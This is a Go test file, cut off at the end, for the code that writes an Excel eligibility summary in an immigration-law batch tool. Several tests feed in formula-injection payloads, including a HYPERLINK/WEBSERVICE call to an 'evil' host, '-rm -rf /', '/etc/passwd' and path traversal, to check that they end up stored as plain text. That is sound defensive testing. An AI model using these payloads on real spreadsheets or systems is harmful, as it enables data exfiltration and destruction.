package report

import (
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/cecbatch/cecbatch/assess"
)

func summaryRunInfo() RunInfo {
	return RunInfo{
		RunID: "20261120-020000", AsOf: assess.MustDate("2026-11-20"), Version: "v0.1.0 (abc1234)",
		Started:  time.Date(2026, 11, 20, 2, 0, 0, 0, time.FixedZone("EST", -5*3600)),
		Duration: 83*time.Second + 400*time.Millisecond,
		Files:    3, Rejected: 1, Clients: 3, Eligible: 1, NotEligible: 1, NeedsReview: 1, LeftInInbox: 1,
		Config: [][2]string{{"inbox", "/srv/cec/inbox"}, {"workers", "2"}, {"letterhead.firm_name", "Tremblay & Singh LLP"}},
	}
}

// fxAsOf is the fixtures' run date: C-1001 and C-1002 are assessed on it,
// C-1003 on its Application Date.
var fxAsOf = assess.MustDate("2026-11-20")

// writeFixtureSummary writes the three fixtures, two file problems, a
// rejected file and the Run sheet, and returns the saved workbook's path.
func writeFixtureSummary(t *testing.T, extra ...*assess.Assessment) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "summary.xlsx")
	s, err := NewSummary(path, fxAsOf)
	if err != nil {
		t.Fatal(err)
	}
	pdfs := []string{"opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf", "opinions/C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf", ""}
	for i, a := range fxAll() {
		if err := s.AddClient(a, nil, pdfs[i]); err != nil {
			t.Fatal(err)
		}
	}
	for _, a := range extra {
		if err := s.AddClient(a, nil, "opinions/"+OpinionFileName(a.Client)); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.AddProblem("intake-2026-11.xlsx", "Employment", "Employment!A12",
		`Client ID "C-9999" is not on the Clients sheet, so this row belongs to no client and was not assessed; correct the ID or add the client to the Clients sheet.`, false); err != nil {
		t.Fatal(err)
	}
	if err := s.AddProblem("intake-2026-11.xlsx", "Employment", "Employment!M1",
		`the column "Notes; misc. stuff" is not one cecbatch reads, so it was ignored. If it holds intake data, rename it to one of the names in the template.`, true); err != nil {
		t.Fatal(err)
	}
	if err := s.AddRejected("old-format.xls", "This is an old .xls workbook. Open it in Excel and save it as .xlsx."); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("summary.xlsx exists before Close (err %v): a killed run would leave it half-written", err)
	}
	if err := s.Close(summaryRunInfo()); err != nil {
		t.Fatal(err)
	}
	if err := s.AddClient(fxEligible(), nil, ""); err == nil {
		t.Error("AddClient after Close succeeded")
	}
	if err := s.AddProblem("x.xlsx", "", "", "late", false); err == nil {
		t.Error("AddProblem after Close succeeded")
	}
	left, _ := filepath.Glob(filepath.Join(filepath.Dir(path), ".*"))
	if len(left) > 0 {
		t.Errorf("temporary files left behind: %v", left)
	}
	return path
}

func openSummary(t *testing.T, path string) *excelize.File {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("summary.xlsx does not open with excelize: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// sCol is the letter of the Summary column with that header.
func sCol(t *testing.T, header string) string {
	t.Helper()
	for i, c := range summaryColumns {
		if c.header == header {
			name, _ := excelize.ColumnNumberToName(i + 1)
			return name
		}
	}
	t.Fatalf("no Summary column %q", header)
	return ""
}

// sRef is the cell of a Summary column on a sheet row.
func sRef(t *testing.T, header string, row int) string {
	t.Helper()
	return fmt.Sprintf("%s%d", sCol(t, header), row)
}

func TestSummaryWorkbook(t *testing.T) {
	f := openSummary(t, writeFixtureSummary(t))
	if got, want := f.GetSheetList(), []string{SheetSummary, SheetProblems, SheetWork, SheetLanguage, SheetExpressEntry, SheetRejected, SheetRun}; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets = %v, want %v", got, want)
	}
	cell := func(sheet, ref string) string {
		t.Helper()
		v, err := f.GetCellValue(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	raw := func(sheet, ref string) string {
		t.Helper()
		v, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	// Sorted: C-1003 (needs review), C-1001 (eligible), C-1002 (not
	// eligible), under the header.
	const review, eligible, notEligible = summaryFirstClientRow, summaryFirstClientRow + 1, summaryFirstClientRow + 2
	s := func(header string, row int) string { return sRef(t, header, row) }
	tests := []struct {
		sheet, ref string
		formatted  string // as displayed
		raw        string // the stored value; "" = same as formatted
	}{
		{SheetSummary, "A7", "Client ID", ""},
		{SheetSummary, s("Opinion PDF", summaryHeaderRow), "Opinion PDF", ""},
		{SheetSummary, s("Client ID", review), "C-1003", ""},
		{SheetSummary, s("Client ID", eligible), "C-1001", ""},
		{SheetSummary, s("Client ID", notEligible), "C-1002", ""},
		{SheetSummary, s("Family name", eligible), "Bérubé", ""},
		{SheetSummary, s("Verdict", eligible), "Eligible", ""},
		{SheetSummary, s("Verdict", notEligible), "Not eligible", ""},
		{SheetSummary, s("Verdict", review), "Needs review", ""},
		{SheetSummary, s("Assessed as of", eligible), "2026-11-20", "46346"},
		{SheetSummary, s("Date basis", eligible), "the run's as-of date", ""},
		{SheetSummary, s("Assessed as of", review), "2026-12-01", "46357"},
		{SheetSummary, s("Date basis", review), "application date, 11 days after this run", ""},
		{SheetSummary, s("Qualifying hours", eligible), "3,437.1", "3437.1"},
		{SheetSummary, s("Required CLB", eligible), "7", ""},
		{SheetSummary, s("Achieved CLB", eligible), "9", ""},
		{SheetSummary, s("Achieved CLB", notEligible), "", "0"}, // LibreOffice shows "below 4"
		{SheetSummary, s("Apply by (eligible until)", eligible), "2027-06-09", "46547"},
		{SheetSummary, s("Apply by (eligible until)", notEligible), "", ""},
		{SheetSummary, s("Eligible from", notEligible), "", ""},
		// The engine projects 2027-03-01 on the rows it could read; a job
		// row to fix decides the work requirement, so no date is drawn,
		// as in the opinion.
		{SheetSummary, s("Eligible from", review), "", ""},
		{SheetSummary, s("Main reason", eligible), "Apply by 2027-06-09: the IELTS General Training of…", ""},
		{SheetSummary, s("Main reason", review), "DATA: End date 2023-05-01 is before the start date… (+3)", ""},
		{SheetSummary, s("Main reason", notEligible), "W-HOURS: 1,317.8 qualifying hours in the window; 1,560 are… (+3)", ""},
		{SheetSummary, s("Next step", review), "Fix 1 cell: see Problems", ""},
		{SheetSummary, s("Next step", eligible), "Submit the eAPR by 2027-06-09", ""},
		{SheetSummary, s("Next step", notEligible), "Book a new test: CLB 5 needed in speaking", ""},
		{SheetSummary, s("Lawyer decision", eligible), "", ""},
		{SheetSummary, s("Lawyer notes", eligible), "", ""},
		{SheetSummary, s("Opinion PDF", eligible), "C-1001_Bérubé_Élodie_CEC-opinion.pdf", ""},
		{SheetSummary, s("Opinion PDF", review), "", ""},
		{SheetSummary, s("Source file", review), "walk-ins.xlsx", ""},
		{SheetSummary, s("Intake row", review), "Clients!A4", ""},
		// The counts: needs review first, then eligible, not eligible, total.
		{SheetSummary, "A1", "Needs review", ""},
		{SheetSummary, "D1", "1", ""},
		{SheetSummary, "A2", "Eligible", ""},
		{SheetSummary, "A3", "Not eligible", ""},
		{SheetSummary, "A4", "Total", ""},
		{SheetSummary, "D4", "3", ""},
		{SheetProblems, "A1", "File", ""},
		{SheetProblems, "A2", "walk-ins.xlsx", ""},
		{SheetProblems, "D2", "C-1003", ""},
		{SheetProblems, "A3", "intake-2026-11.xlsx", ""},
		{SheetWork, "A1", "Client ID", ""},
		{SheetWork, "B2", "Maple Software Inc.", ""},
		{SheetWork, "D2", "21232", ""},
		{SheetWork, "E2", "Software developers and programmers", ""},
		{SheetWork, "G2", "2024-09-01", "45536"},
		{SheetWork, "H2", "ongoing", ""},
		{SheetWork, "J2", "3,437.1", "3437.1"},
		{SheetWork, "L4", "excluded", ""},
		{SheetWork, "M4", "W-SKILL 2024-03-01 to 2025-12-31 (671 days): NOC 65100 is TEER 5; only TEER 0, 1, 2 and 3 count", ""},
		{SheetWork, "D6", "1525", ""},
		{SheetWork, "F6", "1", ""},
		{SheetWork, "N7", "Employment!A7", ""},
		{SheetLanguage, "B2", "IELTS General", ""},
		{SheetLanguage, "C2", "IELTS General Training", ""},
		{SheetLanguage, "E2", "2027-06-09", "46547"},
		{SheetLanguage, "F2", "8", ""},
		{SheetLanguage, "H2", "7.5", ""},
		{SheetLanguage, "L3", "M", ""},
		{SheetLanguage, "M3", "", "0"},
		{SheetLanguage, "O2", "yes", ""},
		{SheetLanguage, "Q4", "not an accepted test", ""},
		{SheetRejected, "A2", "old-format.xls", ""},
		{SheetRun, "B2", "2026-11-20", "46346"},
		{SheetRun, "B3", "20261120-020000", ""},
		{SheetRun, "B5", "2026-11-20 02:00:00", "46346.0833333333"},
		{SheetRun, "B6", "0:01:23", "0.0009606482"},
		{SheetRun, "B9", "3", ""},
		{SheetRun, "A13", "Left in inbox", ""},
		{SheetRun, "B13", "1", ""},
		{SheetRun, "A14", "Rule set", ""},
		{SheetRun, "B14", "cec-2024-01-30, effective 2024-01-30, last reviewed 2026-12-01, next review due 2027-03-06", ""},
		{SheetRun, "A16", "Configuration", ""},
		{SheetRun, "A17", "inbox", ""},
		{SheetRun, "B19", "Tremblay & Singh LLP", ""},
	}
	for _, tt := range tests {
		// excelize does not render every number format section (the zero
		// section of the CLB format): "" with a raw value skips the check.
		if got := cell(tt.sheet, tt.ref); got != tt.formatted && !(tt.formatted == "" && tt.raw != "") {
			t.Errorf("%s!%s shows %q, want %q", tt.sheet, tt.ref, got, tt.formatted)
		}
		want := tt.raw
		if want == "" {
			want = tt.formatted
		}
		if got := raw(tt.sheet, tt.ref); got != want && !(tt.raw == "" && tt.formatted == "") {
			t.Errorf("%s!%s stores %q, want %q", tt.sheet, tt.ref, got, want)
		}
	}
	// Numbers and dates are numeric cells, not text that looks like one.
	for _, h := range []string{"Assessed as of", "Qualifying hours", "Required CLB", "Achieved CLB", "Apply by (eligible until)"} {
		ref := s(h, eligible)
		if typ, _ := f.GetCellType(SheetSummary, ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber && typ != excelize.CellTypeDate {
			t.Errorf("Summary!%s (%s) has type %v, want a number", ref, h, typ)
		}
	}
	for _, ref := range []string{"D1", "D2", "D3", "D4"} {
		if typ, _ := f.GetCellType(SheetSummary, ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("count Summary!%s has type %v, want a number", ref, typ)
		}
	}
	if typ, _ := f.GetCellType(SheetWork, "D2"); typ != excelize.CellTypeInlineString {
		t.Errorf("NOC is stored as %v, want text (leading zeros matter)", typ)
	}
	if got, _ := f.GetCellFormula(SheetSummary, s("Opinion PDF", eligible)); got != `HYPERLINK("opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf","C-1001_Bérubé_Élodie_CEC-opinion.pdf")` {
		t.Errorf("PDF link formula = %q", got)
	}
	// All reasons: on one line, notes left to the opinion.
	all := cell(SheetSummary, s("All reasons", notEligible))
	if !strings.HasPrefix(all, "W-HOURS: 1,317.8 qualifying hours") || !strings.Contains(all, " • L-THRESH: ") ||
		!strings.Contains(all, " • W-SELF: ") || strings.Contains(all, "W-AUTH") || strings.Contains(all, "\n") {
		t.Errorf("all reasons = %q", all)
	}
	// One line per client: no cell of a client's row wraps (but the
	// lawyer's notes, typed later), and every row is one line high.
	for _, c := range summaryColumns {
		for _, row := range []int{review, eligible, notEligible} {
			id, _ := f.GetCellStyle(SheetSummary, s(c.header, row))
			st, err := f.GetStyle(id)
			if err != nil {
				t.Fatal(err)
			}
			if wraps := st.Alignment != nil && st.Alignment.WrapText; wraps != (c.header == "Lawyer notes") {
				t.Errorf("Summary column %s wraps %v", c.header, wraps)
			}
			if v := cell(SheetSummary, s(c.header, row)); strings.Contains(v, "\n") {
				t.Errorf("Summary %s of row %d holds a line break: %q", c.header, row, v)
			}
		}
	}
	for _, row := range []int{review, eligible, notEligible} {
		if h, _ := f.GetRowHeight(SheetSummary, row); h > summaryLineHeight {
			t.Errorf("Summary row %d is %v points high, more than one line", row, h)
		}
	}
	// The main reason is one line, cut at a word: the whole of it is in All reasons.
	if main := cell(SheetSummary, s("Main reason", eligible)); len([]rune(main)) > summaryMainRunes+1 {
		t.Errorf("main reason %q is not one short line", main)
	}

	for _, tt := range []struct {
		sheet  string
		header int
	}{{SheetSummary, summaryHeaderRow}, {SheetProblems, 1}, {SheetWork, 1}, {SheetLanguage, 1}, {SheetRejected, 1}} {
		panes, err := f.GetPanes(tt.sheet)
		if err != nil || !panes.Freeze || panes.YSplit != tt.header {
			t.Errorf("%s: header row %d not frozen: %+v %v", tt.sheet, tt.header, panes, err)
		}
		if w, _ := f.GetColWidth(tt.sheet, "B"); w < 12 {
			t.Errorf("%s: column B width %v, want set", tt.sheet, w)
		}
	}
	filters := make(map[string]string)
	for _, n := range f.GetDefinedName() {
		if n.Name == "_xlnm._FilterDatabase" {
			filters[n.Scope] = n.RefersTo
		}
	}
	for sheet, want := range map[string]string{
		SheetSummary: "'Summary'!$A$7:$V$10", SheetProblems: "'Problems'!$A$1:$G$5", SheetWork: "'Work'!$A$1:$N$7",
		SheetLanguage: "'Language'!$A$1:$R$5", SheetRejected: "'Rejected files'!$A$1:$B$2",
	} {
		if got := filters[sheet]; got != want {
			t.Errorf("%s autofilter = %q, want %q", sheet, got, want)
		}
	}
	// Verdict colours: each verdict has its own fill, in the counts too.
	fills := make(map[string]bool)
	for _, ref := range []string{s("Verdict", review), s("Verdict", eligible), s("Verdict", notEligible), "A1", "A2", "A3"} {
		id, err := f.GetCellStyle(SheetSummary, ref)
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil {
			t.Fatal(err)
		}
		if len(st.Fill.Color) == 0 {
			t.Errorf("Summary!%s has no fill", ref)
			continue
		}
		fills[st.Fill.Color[0]] = true
	}
	if len(fills) != 3 {
		t.Errorf("verdict fills = %v, want three different colours", fills)
	}
}

// TestSummaryFormulaText writes text that starts with =, +, -, @, a tab or
// a carriage return in every text column of every sheet, and reads each
// back: the value is the text and there is no formula.
func TestSummaryFormulaText(t *testing.T) {
	a := fxFormulaText()
	// The main reason and all reasons start with the first failure's code.
	a.Findings[0].Code = "=W-HOURS"
	// A client's data problem on Problems.
	b := fxNeedsReview()
	b.Client.ID, b.Client.SourceFile = "@C-1003", "-walk-ins.xlsx"
	for i := range b.Findings {
		if b.Findings[i].Kind == assess.KindData {
			b.Findings[i].Text = assess.Untranslated("=Problem!")
		}
	}
	path := filepath.Join(t.TempDir(), "summary.xlsx")
	s, err := NewSummary(path, fxAsOf)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.AddClient(a, nil, "opinions/"+OpinionFileName(a.Client)); err != nil {
		t.Fatal(err)
	}
	if err := s.AddClient(b, nil, ""); err != nil {
		t.Fatal(err)
	}
	if err := s.AddRejected("=evil.xlsx", "-rm -rf /"); err != nil {
		t.Fatal(err)
	}
	if err := s.AddProblem("+intake.xlsx", "@Sheet", "", "=bad(); @fix it", true); err != nil {
		t.Fatal(err)
	}
	if err := s.AddProblem("-x.xlsx", "", "=Odd!-B2", "+HYPERLINK(1)", false); err != nil {
		t.Fatal(err)
	}
	run := summaryRunInfo()
	run.RunID, run.Version = "+1", "@version"
	run.Config = [][2]string{{"=key", "=SUM(1,2)"}, {"@k", "\t=1"}}
	if err := s.Close(run); err != nil {
		t.Fatal(err)
	}
	c := a.Client
	hazards := []struct{ sheet, col, text string }{
		{SheetSummary, sCol(t, "Client ID"), c.ID}, {SheetSummary, sCol(t, "Family name"), c.FamilyName},
		{SheetSummary, sCol(t, "Given names"), c.GivenNames}, {SheetSummary, sCol(t, "Source file"), c.SourceFile},
		{SheetSummary, sCol(t, "Main reason"), "=W-HOURS: =finding() (+3)"},
		{SheetProblems, "A", "=evil.xlsx"}, {SheetProblems, "F", "-rm -rf /"},
		{SheetProblems, "A", "+intake.xlsx"}, {SheetProblems, "B", "@Sheet"}, {SheetProblems, "F", "=bad()."},
		{SheetProblems, "G", "@fix it"}, {SheetProblems, "A", "-x.xlsx"}, {SheetProblems, "B", "=Odd"},
		{SheetProblems, "C", "-B2"}, {SheetProblems, "F", "+HYPERLINK(1)"},
		{SheetProblems, "A", b.Client.SourceFile}, {SheetProblems, "D", b.Client.ID}, {SheetProblems, "F", "=Problem!"},
		{SheetWork, "A", c.ID}, {SheetWork, "B", c.Jobs[0].Employer}, {SheetWork, "C", c.Jobs[0].Title},
		{SheetWork, "D", c.Jobs[0].NOC}, {SheetWork, "B", c.Jobs[1].Employer}, {SheetWork, "C", showControls(c.Jobs[1].Title)},
		{SheetLanguage, "A", c.ID}, {SheetLanguage, "B", c.Tests[0].Name}, {SheetLanguage, "L", "=M"},
		{SheetLanguage, "Q", "+why"},
		{SheetRejected, "A", "=evil.xlsx"}, {SheetRejected, "B", "-rm -rf /"},
		{SheetRun, "B", "+1"}, {SheetRun, "B", "@version"}, {SheetRun, "A", "=key"}, {SheetRun, "B", "=SUM(1,2)"},
		{SheetRun, "A", "@k"}, {SheetRun, "B", "\t=1"},
	}
	f := openSummary(t, path)
	// b needs review and comes first; a is on the next row.
	if all, _ := f.GetCellValue(SheetSummary, sRef(t, "All reasons", summaryFirstClientRow+1)); !strings.HasPrefix(all, "=W-HOURS: =finding()") {
		t.Errorf("all reasons = %q", all)
	}
	for _, h := range hazards {
		rows, err := f.GetRows(h.sheet)
		if err != nil {
			t.Fatal(err)
		}
		col, _ := excelize.ColumnNameToNumber(h.col)
		found := false
		for r := 2; r <= len(rows); r++ {
			ref := fmt.Sprintf("%s%d", h.col, r)
			v, _ := f.GetCellValue(h.sheet, ref)
			if v != h.text {
				continue
			}
			found = true
			if formula, _ := f.GetCellFormula(h.sheet, ref); formula != "" {
				t.Errorf("%s!%s holds %q as a formula %q", h.sheet, ref, h.text, formula)
			}
			if typ, _ := f.GetCellType(h.sheet, ref); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
				t.Errorf("%s!%s %q has type %v, want a string", h.sheet, ref, h.text, typ)
			}
		}
		if !found {
			t.Errorf("%s column %s (%d): %q not found as a cell value", h.sheet, h.col, col, h.text)
		}
	}
	// No cell anywhere is a formula except the PDF link.
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for ci := range row {
				ref, _ := excelize.CoordinatesToCellName(ci+1, r+1)
				formula, _ := f.GetCellFormula(sheet, ref)
				if formula != "" && !(sheet == SheetSummary && strings.HasPrefix(ref, sCol(t, "Opinion PDF")) && strings.HasPrefix(formula, `HYPERLINK("opinions/`)) {
					t.Errorf("%s!%s is a formula: %q", sheet, ref, formula)
				}
			}
		}
	}
}

func TestSummaryLinkSafety(t *testing.T) {
	for _, p := range []string{
		`opinions/x.pdf")&WEBSERVICE("http://evil`, "../secret.pdf", "/etc/passwd", "opinions/a b.pdf", "C:\\x.pdf",
	} {
		if summarySafeLinkPath(p) {
			t.Errorf("summarySafeLinkPath(%q) = true", p)
		}
	}
	for _, p := range []string{"opinions/C-1_Żółć_Łukasz_CEC-opinion.pdf", "opinions/1_A_B_CEC-opinion-2.pdf"} {
		if !summarySafeLinkPath(p) {
			t.Errorf("summarySafeLinkPath(%q) = false", p)
		}
	}
	path := filepath.Join(t.TempDir(), "summary.xlsx")
	s, err := NewSummary(path, fxAsOf)
	if err != nil {
		t.Fatal(err)
	}
	bad := `opinions/x.pdf")&WEBSERVICE("http://evil`
	if err := s.AddClient(fxEligible(), nil, bad); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(RunInfo{}); err != nil {
		t.Fatal(err)
	}
	f := openSummary(t, path)
	ref := sRef(t, "Opinion PDF", summaryFirstClientRow)
	if formula, _ := f.GetCellFormula(SheetSummary, ref); formula != "" {
		t.Errorf("unsafe PDF path became formula %q", formula)
	}
	if v, _ := f.GetCellValue(SheetSummary, ref); v != bad {
		t.Errorf("unsafe PDF path written as %q", v)
	}
}

func TestSummaryAbort(t *testing.T) {
	dir := t.TempDir()
	s, err := NewSummary(filepath.Join(dir, "summary.xlsx"), fxAsOf)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.AddClient(fxNotEligible(), nil, ""); err != nil {
		t.Fatal(err)
	}
	if err := s.Abort(); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(RunInfo{}); err == nil {
		t.Error("Close after Abort succeeded")
	}
	entries, _ := os.ReadDir(dir)
	if len(entries) != 0 {
		t.Errorf("Abort left %v", entries)
	}
}

func TestSummaryConcurrent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "summary.xlsx")
	s, err := NewSummary(path, fxAsOf)
	if err != nil {
		t.Fatal(err)
	}
	const goroutines, each = 6, 20
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < each; i++ {
				if err := s.AddClient(fxAll()[i%3], nil, ""); err != nil {
					t.Error(err)
				}
				if i%10 == 0 {
					if err := s.AddRejected("x.csv", "save it as .xlsx"); err != nil {
						t.Error(err)
					}
				}
			}
		}()
	}
	wg.Wait()
	if err := s.Close(RunInfo{}); err != nil {
		t.Fatal(err)
	}
	f := openSummary(t, path)
	// Each goroutine adds six needs-review clients (i%3 == 2), each with
	// one data problem, and two rejected files.
	for sheet, want := range map[string]int{SheetSummary: summaryHeaderRow + goroutines*each, SheetRejected: 1 + goroutines*2, SheetProblems: 1 + goroutines*(6+2)} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != want {
			t.Errorf("%s has %d rows, want %d", sheet, len(rows), want)
		}
	}
}

// TestSummaryLibreOffice converts the workbook with LibreOffice, as the
// firm's machines would open it, and checks what a person sees: formula-like
// text shown as text, dates as dates, the link's label.
func TestSummaryLibreOffice(t *testing.T) {
	t.Parallel()
	// Filter options: comma, double quote, UTF-8, first line 1, …, cell
	// contents as shown (token 9), every sheet to its own file (token 12 =
	// -1, LibreOffice 7.2+).
	out := convertWithLibreOffice(t, writeFixtureSummary(t, fxFormulaText()),
		"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1")
	read := func(sheet string) [][]string {
		t.Helper()
		name := filepath.Join(out, "summary-"+sheet+".csv")
		b, err := os.ReadFile(name)
		if err != nil {
			files, _ := os.ReadDir(out)
			t.Fatalf("%v (output folder holds %v)", err, files)
		}
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		return rows
	}
	summary := read(SheetSummary)
	// Six rows of counts and notes, the header, C-1003 (needs review),
	// C-1001 (eligible), then the two not eligible by ID: "=1+1", C-1002.
	if len(summary) != 11 {
		t.Fatalf("Summary has %d rows in LibreOffice, want 11", len(summary))
	}
	col := func(header string) int {
		for i, c := range summaryColumns {
			if c.header == header {
				return i
			}
		}
		t.Fatalf("no column %q", header)
		return 0
	}
	const review, eligible, formulas, notEligible = 7, 8, 9, 10
	checks := []struct{ got, want string }{
		{summary[0][0], "Needs review"},
		{summary[3][3], "4"},
		{summary[review][0], "C-1003"},
		{summary[eligible][col("Verdict")], "Eligible"},
		{summary[eligible][col("Assessed as of")], "2026-11-20"},
		{summary[eligible][col("Qualifying hours")], "3,437.1"},
		{summary[notEligible][col("Achieved CLB")], "below 4"},
		{summary[eligible][col("Opinion PDF")], "C-1001_Bérubé_Élodie_CEC-opinion.pdf"},
		{summary[formulas][0], "=1+1"},
		{summary[formulas][1], "+SUM(A1:A9)"},
		{summary[formulas][2], "-2+3"},
		{summary[formulas][col("Opinion PDF")], OpinionFileName(fxFormulaText().Client)},
	}
	for i, c := range checks {
		if c.got != c.want {
			t.Errorf("check %d: LibreOffice shows %q, want %q", i, c.got, c.want)
		}
	}
	work := read(SheetWork)
	if got := work[len(work)-3][1]; got != `=HYPERLINK("http://evil.example/"&A1,"x")` {
		t.Errorf("Work employer shows %q, want the formula-like text itself", got)
	}
	bell := false
	for _, row := range work {
		if strings.HasPrefix(row[1], "Bell") {
			bell = true
			if strings.ContainsAny(row[1], "\x00\x07\x1b") || !strings.Contains(row[1], "Esc") {
				t.Errorf("control characters reached the cell: %q", row[1])
			}
		}
	}
	if !bell {
		t.Error("the employer with control characters and bad UTF-8 is missing from Work")
	}
	for _, sheet := range []string{SheetProblems, SheetLanguage, "Rejected files", SheetRun} {
		if rows := read(sheet); len(rows) < 2 {
			t.Errorf("%s: %d rows", sheet, len(rows))
		}
	}
}

// TestSummaryLibreOfficeRoundTrip saves the workbook again with LibreOffice,
// as a firm that opens and saves it would: the lawyer's drop-down, the
// triage order, the print titles and the landscape page survive.
func TestSummaryLibreOfficeRoundTrip(t *testing.T) {
	t.Parallel()
	out := convertWithLibreOffice(t, writeFixtureSummary(t), "xlsx:Calc MS Excel 2007 XML")
	f := openSummary(t, filepath.Join(out, "summary.xlsx"))
	dvs, err := f.GetDataValidations(SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	col := sCol(t, "Lawyer decision")
	found := false
	for _, dv := range dvs {
		if dv.Type == "list" && strings.HasPrefix(dv.Sqref, fmt.Sprintf("%s%d", col, summaryFirstClientRow)) &&
			strings.Contains(dv.Formula1, "approved") && strings.Contains(dv.Formula1, "changes needed") && strings.Contains(dv.Formula1, "declined") {
			found = true
		}
	}
	if !found {
		t.Errorf("the Lawyer decision drop-down did not survive LibreOffice: %+v", dvs)
	}
	var ids []string
	for row := summaryFirstClientRow; row < summaryFirstClientRow+3; row++ {
		v, _ := f.GetCellValue(SheetSummary, fmt.Sprintf("A%d", row))
		ids = append(ids, v)
	}
	if strings.Join(ids, " ") != "C-1003 C-1001 C-1002" {
		t.Errorf("order after LibreOffice = %v", ids)
	}
	titles := ""
	for _, n := range f.GetDefinedName() {
		if n.Name == "_xlnm.Print_Titles" && n.Scope == SheetSummary {
			titles = n.RefersTo
		}
	}
	if !strings.Contains(titles, "$7:$7") {
		t.Errorf("print titles after LibreOffice = %q", titles)
	}
	if layout, err := f.GetPageLayout(SheetSummary); err != nil || layout.Orientation == nil || *layout.Orientation != "landscape" {
		t.Errorf("page orientation after LibreOffice = %v %v", deref(layout.Orientation), err)
	}
}

// TestSummaryLibreOfficeLinks exports the Summary sheet to HTML with
// LibreOffice: the HYPERLINK cells must come out as links to the PDFs,
// relative to the workbook.
func TestSummaryLibreOfficeLinks(t *testing.T) {
	t.Parallel()
	out := convertWithLibreOffice(t, writeFixtureSummary(t), "html")
	html, err := os.ReadFile(filepath.Join(out, "summary.html"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`<a href="opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf">C-1001_Bérubé_Élodie_CEC-opinion.pdf`,
		`<a href="opinions/C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf">C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf`,
	} {
		if !strings.Contains(string(html), want) {
			t.Errorf("LibreOffice's HTML export has no %s", want)
		}
	}
}

// convertWithLibreOffice converts the workbook at path with LibreOffice
// (--convert-to to), with a private profile since other LibreOffice
// processes may be running, and returns the output folder. It skips the
// test when LibreOffice is not installed or with -short.
func convertWithLibreOffice(t *testing.T, path, to string) string {
	t.Helper()
	soffice := findLibreOffice()
	if soffice == "" {
		t.Skip("libreoffice is not installed: skipping the LibreOffice conversion")
	}
	if testing.Short() {
		t.Skip("-short: skipping the LibreOffice conversion (several seconds)")
	}
	out := t.TempDir()
	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+t.TempDir(), "--headless",
		"--convert-to", to, "--outdir", out, path)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("libreoffice failed: %v\n%s", err, b)
	}
	return out
}

func findLibreOffice() string {
	for _, name := range []string{"libreoffice", "soffice"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// BenchmarkSummary writes 10,000 and 100,000 clients (each with one to
// three job periods and one or two tests) and reports the peak heap,
// sampled every few milliseconds, including the save. Bounded memory means
// the two peaks are close: the rows go to the StreamWriter's temporary
// files, not to the heap. Run it with -benchtime=1x.
func BenchmarkSummary(b *testing.B) {
	for _, clients := range []int{10_000, 100_000} {
		b.Run(fmt.Sprintf("clients=%d", clients), func(b *testing.B) {
			benchmarkSummary(b, clients)
		})
	}
}

func benchmarkSummary(b *testing.B, clients int) {
	fixtures := fxAll()
	for i := 0; i < b.N; i++ {
		path := filepath.Join(b.TempDir(), "summary.xlsx")
		runtime.GC()
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		base := ms.HeapAlloc
		stop := make(chan struct{})
		peakc := make(chan uint64)
		go func() {
			var peak uint64
			var m runtime.MemStats
			tick := time.NewTicker(5 * time.Millisecond)
			defer tick.Stop()
			for {
				select {
				case <-stop:
					peakc <- peak
					return
				case <-tick.C:
					runtime.ReadMemStats(&m)
					peak = max(peak, m.HeapAlloc)
				}
			}
		}()
		start := time.Now()
		s, err := NewSummary(path, fxAsOf)
		if err != nil {
			b.Fatal(err)
		}
		for n := 0; n < clients; n++ {
			if err := s.AddClient(fixtures[n%3], nil, "opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf"); err != nil {
				b.Fatal(err)
			}
		}
		closing := time.Now()
		if err := s.Close(RunInfo{Clients: clients}); err != nil {
			b.Fatal(err)
		}
		elapsed := time.Since(start)
		// Close is the end of a run, when nothing else is left to do.
		b.ReportMetric(time.Since(closing).Seconds(), "close-s")
		close(stop)
		peak := <-peakc
		st, err := os.Stat(path)
		if err != nil {
			b.Fatal(err)
		}
